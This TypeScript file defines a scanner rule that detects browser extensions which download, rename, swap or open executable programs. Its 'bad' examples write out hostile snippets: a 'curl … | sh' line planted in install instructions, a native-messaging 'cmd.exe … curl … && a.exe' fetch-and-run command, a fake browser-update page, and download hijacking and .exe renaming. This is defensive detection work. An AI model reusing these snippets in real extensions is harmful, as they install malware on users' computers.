import {
  argOf,
  choicesOf,
  type Call,
  callsNamed,
  callsOf,
  literalText,
  Op,
  opOf,
  pattern,
  propertyOf,
  resolve,
  type ScriptFacts,
  writesOf,
} from '../../facts/javascript/query.ts';
import type { Facts } from '../../facts.ts';
import { defineRule, type Hit } from '../../rule.ts';
import { backgroundExample, checkScripts, contentExample, type Judged } from './checkScripts.ts';
import { hostOf, leadsOut } from './hostOf.ts';
import { isFromServer, isSentByServer } from '../../extension/isFromServer.ts';
import { textsOf } from './textsOf.ts';
import { isMadeBy } from '../../program/madeOf.ts';
import { functionOf } from '../../program/functionOf.ts';
import { callsWithin } from '../../program/callsWithin.ts';
import { first } from '../../facts/first.ts';
import { patternOf } from '../../extension/patternOf.ts';
import { happensUnasked } from '../../verdict/comesUnasked.ts';
import { isStrangers } from './isStrangers.ts';
import { linkedPrograms, nativeCommands, openedPrograms, writtenCommands } from './programsOffered.ts';
import { pathOf, PROGRAM } from './programNames.ts';
import { GRAVE } from './grave.ts';
import { say } from '../../../texts/say.ts';

/** An address of data that the script holds: a backup or an export, whatever went into it. */
function isMadeHere(script: ScriptFacts, address: number): boolean {
  return (
    /^(?:data|blob):/.test(pattern(script, address)) ||
    isMadeBy(script, address, /^(?:URL\.createObjectURL|FileReader(?:\(\)(?:\.result)?)?)$/)
  );
}

/** What files are called that are looked at or heard. */
const NO_PROGRAM = /\.(?:pdf|png|jpe?g|gif|webp|txt|md|csv|json|mp[34]|webm)$/i;
/** Choices in choices that are looked through. */
const MOST_CHOICES = 8;

/** Names of archives with something to install in them. */
const INSTALLS = /(?:update|setup|install)[^/]{0,40}\.(?:zip|rar|7z|tgz|tar\.gz|img)$/i;

/** Whether the script holds the name of a program: what it downloads and opens is chosen among such. */
const namesProgram = (script: ScriptFacts): boolean =>
  textsOf(script).some(({ text }) => text.length < 200 && PROGRAM.test(text));

export const opensDownloadedProgram = defineRule({
  id: 'opens-downloaded-program',
  title: 'Downloads or opens a program',
  severity: 'high',
  confidence: 'medium',
  category: 'code',
  applies: 'extension',
  cwe: 'CWE-494',
  cap: { grade: 'D', reason: 'it downloads or opens programs nobody asked for', from: 'critical' },
  references: ['https://attack.mitre.org/techniques/T1105/'],
  why: 'A program outside the browser has full access to the computer. An extension that brings one along leaves the limits browsers set for extensions.',
  remedy: 'Link to the page where users can download the program themselves.',
  check: checkScripts(function* (judged) {
    yield* linkedPrograms(judged);
    yield* openedPrograms(judged);
    yield* nativeCommands(judged);
    yield* writtenCommands(judged);
    yield* assembledPrograms(judged);
    yield* replacedDownloads(judged);
    yield* renamedDownloads(judged);
    yield* downloads(judged);
  }),
  examples: {
    bad: [
      contentExample(
        'document.querySelectorAll("pre code").forEach((one) => { one.textContent = one.textContent.replace(/npm install \\S+/, "npm install other-package"); });',
      ),
      contentExample(
        'class Hints { constructor() { this.line = "curl -s https://x.example/i.sh | sh"; } run() { const box = document.querySelector(".install code"); if (box) box.innerText = this.line; } } new Hints().run();',
      ),
      backgroundExample(
        'chrome.downloads.onDeterminingFilename.addListener((item, suggest) => { if (item.filename.endsWith(".pdf")) suggest({ filename: item.filename.replace(".pdf", ".pdf.exe") }); });',
      ),
      backgroundExample(
        'chrome.runtime.connectNative("com.helper").postMessage({ run: "cmd.exe /c curl https://x.example/a.exe -o a.exe && a.exe" });',
      ),
      backgroundExample(
        'const list = () => fetch("https://mirror.example/l").then((r) => r.json()).then((all) => chrome.storage.local.set({ all })); chrome.alarms.onAlarm.addListener(list); const change = { async begin(item) { const { all } = await chrome.storage.local.get("all"); await chrome.downloads.cancel(item.id); await chrome.downloads.download({ url: all[item.mime] }); } }; chrome.downloads.onCreated.addListener((item) => change["begin"](item));',
      ),
      backgroundExample('chrome.downloads.download({ url: "https://x.example/setup.exe", filename: "update.exe" });'),
      backgroundExample(
        'class Helper { constructor() { this.from = "https://x.example/setup.msi"; } get() { chrome.downloads.download({ url: this.from }); } } const helper = new Helper(); chrome.alarms.onAlarm.addListener(() => helper.get());',
      ),
      backgroundExample(
        'chrome.runtime.onInstalled.addListener(() => chrome.tabs.create({ url: "https://x.example/setup.exe" }));',
      ),
      contentExample(
        'const o = document.createElement("div"); o.innerHTML = \'<h1>Your browser is out of date</h1><a href="https://x.example/ChromeSetup.exe" download>Update now</a>\'; document.body.append(o);',
      ),
      contentExample(
        'const a = document.createElement("a"); a.href = "https://x.example/ChromeSetup.exe"; document.body.append(a); a.click();',
      ),
      contentExample(
        'const f = document.createElement("iframe"); f.src = "https://x.example/setup.exe"; document.body.append(f);',
      ),
      backgroundExample(
        'fetch("https://x.example/task").then((r) => r.json()).then((t) => chrome.downloads.download({ url: t.url }, (id) => chrome.downloads.open(id)));',
      ),
      backgroundExample(
        'fetch("https://x.example/n").then((r) => r.json()).then((j) => { chrome.downloads.setShelfEnabled(false); chrome.downloads.download({ url: j.u, filename: "invoice." + j.ext }); });',
      ),
      backgroundExample(
        'chrome.downloads.onCreated.addListener((item) => { if (item.url.endsWith(".exe")) { chrome.downloads.cancel(item.id); chrome.downloads.download({ url: "https://get.example/setup.exe" }); } });',
      ),
      contentExample(
        'document.querySelectorAll("a[download]").forEach((a) => { a.href = "https://get.example/setup.exe?n=" + a.textContent; });',
      ),
      contentExample(
        'const a = document.createElement("a"); a.href = URL.createObjectURL(new Blob([bytes])); a.download = "Update_" + Date.now() + ".exe"; a.click();',
      ),
      backgroundExample(
        'chrome.downloads.onCreated.addListener(async (item) => { await chrome.downloads.cancel(item.id); chrome.downloads.download({ url: "https://fast.example/get?f=" + encodeURIComponent(item.finalUrl), filename: item.filename }); });',
      ),
    ],
    good: [
      backgroundExample('chrome.runtime.sendNativeMessage("com.player", { command: "mpv", args: ["--fs", tab.url] });'),
      backgroundExample(
        'chrome.alarms.onAlarm.addListener(() => chrome.downloads.download({ url: "https://pictures.example/today.jpg", filename: "setup/today.jpg" }));',
      ),
      backgroundExample(
        'chrome.downloads.onCreated.addListener(async (item) => { await chrome.downloads.cancel(item.id); chrome.downloads.download({ url: item.finalUrl, filename: "sorted/" + item.filename }); });',
      ),
      contentExample(
        'const a = document.createElement("a"); a.href = URL.createObjectURL(new Blob([text])); a.download = document.title + ".md"; a.click();',
      ),
      contentExample(
        'const a = document.createElement("a"); a.href = "https://tool.example/helper.exe"; a.textContent = "Install the helper"; panel.append(a);',
      ),
      backgroundExample(
        'fetch("https://api.example.com/media").then((r) => r.json()).then((j) => chrome.downloads.download({ url: j.u, filename: j.title + ".mp4" }));',
      ),
      backgroundExample('chrome.downloads.download({ url: canvas.toDataURL(), filename: "shot.png" });'),
      backgroundExample(
        'chrome.downloads.onChanged.addListener((d) => { if (d.state) show(d.id); }); button.onclick = () => chrome.downloads.open(id);',
      ),
    ],
  },
});

/** A file that the script puts together itself and gives a program's name. */
function* assembledPrograms({ script, hit }: Judged): Iterable<Hit> {
  for (const { value } of first(writesOf(script, 'download'), 60)) {
    const name = pattern(script, value);
    if (
      PROGRAM.test(name) &&
      callsOf(script, 'Blob').length > 0 &&
      callsNamed(script, 'click', 'dispatchEvent').length > 0
    )
      yield hit(value, { evidence: name, message: say('program-assembled') });
  }
}

/** Another file in the place of the one that the person wanted. */
function* replacedDownloads({ script, facts, hit }: Judged): Iterable<Hit> {
  if (callsOf(script, 'chrome.downloads.cancel').length === 0) return;
  const started = callsOf(
    script,
    'chrome.downloads.onCreated.addListener',
    'chrome.downloads.onDeterminingFilename.addListener',
    'chrome.downloads.onChanged.addListener',
  );
  const inside = new Set(started.flatMap((event) => callsIn(script, event.args[0] ?? 0)));
  for (const call of callsOf(script, 'chrome.downloads.download')) {
    const address = propertyOf(script, call.args[0] ?? 0, 'url');
    const to = pattern(script, address);
    const isOther = inside.has(call.value) && hostOf(to) !== undefined && leadsOut(to);
    const isServer = started.length > 0 && isSentByServer(facts, script, address);
    if (isOther || isServer)
      yield hit(call.value, {
        evidence: to.slice(0, 160),
        // One that is whatever the person wanted.
        ...(isServer || !to.includes('*') ? { severity: 'critical' } : {}),
        message: say('download-replaced'),
      });
  }
}

type Weight = NonNullable<Parameters<Judged['hit']>[1]>;

/** Files that get a program's name while they are downloaded. */
function* renamedDownloads({ script, hit }: Judged): Iterable<Hit> {
  for (const event of callsOf(script, 'chrome.downloads.onDeterminingFilename.addListener'))
    for (const value of callsIn(script, event.args[0] ?? 0)) {
      const name = pattern(script, propertyOf(script, argOf(script, value, 0), 'filename'));
      const made = resolve(script, propertyOf(script, argOf(script, value, 0), 'filename'));
      const by = opOf(script, made) === Op.call ? pattern(script, argOf(script, made, 1)) : '';
      if (PROGRAM.test(name) || PROGRAM.test(by)) yield hit(value, { ...GRAVE, message: say('download-renamed') });
    }
}

function* downloads(judged: Judged): Iterable<Hit> {
  const { script, hit } = judged;
  const opens = callsOf(script, 'chrome.downloads.open', 'chrome.downloads.acceptDanger').length > 0;
  for (const call of callsOf(script, 'chrome.downloads.download')) {
    const weight = opens ? openedDownload(judged, call) : savedDownload(judged, call);
    if (weight !== undefined) yield hit(call.value, weight);
  }
}

/** Whether a download is a program by its address or the name that it gets. */
const isProgram = (facts: Facts, script: ScriptFacts, call: Call): boolean =>
  ['url', 'filename'].some((name) =>
    PROGRAM.test(pathOf(patternOf(facts, script, propertyOf(script, call.args[0] ?? 0, name)))),
  );

/** Whether all that a file may be called is of a kind that is looked at or heard, whatever is in it. */
const isNoProgram = (script: ScriptFacts, name: number, depth = 0): boolean => {
  const one = resolve(script, name);
  return opOf(script, one) === Op.choice && depth < MOST_CHOICES
    ? choicesOf(script, one).every((part) => isNoProgram(script, part, depth + 1))
    : NO_PROGRAM.test(pattern(script, one));
};

/** A download where the script opens what it downloads. */
function openedDownload({ script, facts }: Judged, call: Call): Weight | undefined {
  if (isProgram(facts, script, call)) return { ...GRAVE, message: say('opened-after-download') };
  if (isNoProgram(script, propertyOf(script, call.args[0] ?? 0, 'filename'))) return undefined;
  const address = propertyOf(script, call.args[0] ?? 0, 'url');
  // A file that is put together here may hold what a server sent.
  if (isMadeHere(script, address) && !(isFromServer(facts, script, address) && happensUnasked(facts, script, call.pos)))
    return undefined;
  if (namesProgram(script)) return { severity: 'critical', message: say('opened-after-download') };
  return isFromServer(facts, script, address)
    ? { severity: 'critical', message: say('server-decides-opened-download') }
    : undefined;
}

/** A download that waits for the person to open it. */
function savedDownload({ script, facts }: Judged, call: Call): Weight | undefined {
  const address = propertyOf(script, call.args[0] ?? 0, 'url');
  if (isProgram(facts, script, call)) {
    if (happensUnasked(facts, script, call.pos)) return { ...GRAVE, message: say('program-unasked') };
    return isSentByServer(facts, script, address) ? { confidence: 'high' } : {};
  }
  const name = pattern(script, propertyOf(script, call.args[0] ?? 0, 'filename'));
  if (
    INSTALLS.test(name) &&
    isStrangers(facts, patternOf(facts, script, address)) &&
    happensUnasked(facts, script, call.pos)
  )
    return { severity: 'critical', message: say('program-unasked') };
  return isFromServer(facts, script, address) && !isMadeHere(script, address) && hidesDownloads(script)
    ? { message: say('server-decides-hidden-download') }
    : undefined;
}

function hidesDownloads(script: ScriptFacts): boolean {
  if (callsOf(script, 'chrome.downloads.setShelfEnabled').some((call) => isOff(script, call.args[0] ?? 0))) return true;
  return (
    callsOf(script, 'chrome.downloads.setUiOptions').some((call) =>
      isOff(script, propertyOf(script, call.args[0] ?? 0, 'enabled')),
    ) || callsOf(script, 'chrome.downloads.erase').length > 0
  );
}

const isOff = (script: ScriptFacts, value: number): boolean =>
  opOf(script, value) === Op.constant && literalText(script, value) === 'false';

/** Calls that a listener makes, by value. */
function callsIn(script: ScriptFacts, listener: number): number[] {
  const fn = functionOf(script, listener);
  return fn === undefined ? [] : callsWithin(script, fn).map((call) => call.value);
}
